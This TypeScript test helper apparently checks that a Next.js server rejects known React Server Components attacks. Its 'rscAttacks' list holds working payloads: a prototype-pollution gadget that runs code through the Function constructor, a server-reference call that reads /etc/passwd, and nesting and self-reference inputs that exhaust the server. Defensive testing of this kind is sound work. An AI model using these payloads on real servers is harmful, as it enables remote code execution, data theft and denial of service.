import { readFileSync } from 'node:fs';

/** The parts of a form, by name: what a browser sends for an action, or what somebody makes up. */
export type Fields = Readonly<Record<string, string>>;

/** The id of the one action that nobody needs a session for, as its page names it to every browser. */
export function openAction(): string {
  const file = readFileSync('.next/server/server-reference-manifest.json', 'utf8');
  const { node } = JSON.parse(file) as { node: Record<string, { readonly exportedName?: string }> };
  return Object.entries(node).find(([, { exportedName }]) => exportedName === 'redeemLinkAction')?.[0] ?? '';
}

/** The form on the wire; its boundary is `x`. */
export function multipart(fields: Fields): string {
  const parts = Object.entries(fields).map(
    ([name, value]) => `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  return `${parts.join('')}--x--\r\n`;
}

/** What made servers run code (it would write `canary`), read files, or go round for ever. */
export function rscAttacks(canary: string): readonly Fields[] {
  const run = `process.mainModule.require('fs').writeFileSync(${JSON.stringify(canary)},'x');`;
  const response = { _prefix: run, _chunks: '$Q2', _formData: { get: '$1:constructor:constructor' } };
  // A promise of the sender's own making, as words: here nothing shall ever await it.
  const gadget = `{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":${JSON.stringify(response)}}`;
  return [
    { 0: gadget, 1: '"$@0"', 2: '[]' },
    { 0: '"$@1"', 1: '"$@0"' },
    { 0: '"$@0"' },
    { 0: '["$F1"]', 1: '{"id":"fs#readFileSync","bound":["/etc/passwd"]}' },
    { 0: '["$1:constructor:constructor"]', 1: '{}' },
    { 0: `${'['.repeat(20_000)}${']'.repeat(20_000)}` },
    { 0: '["$1"]', 1: JSON.stringify(Array.from({ length: 2000 }, () => '$0')) },
  ];
}
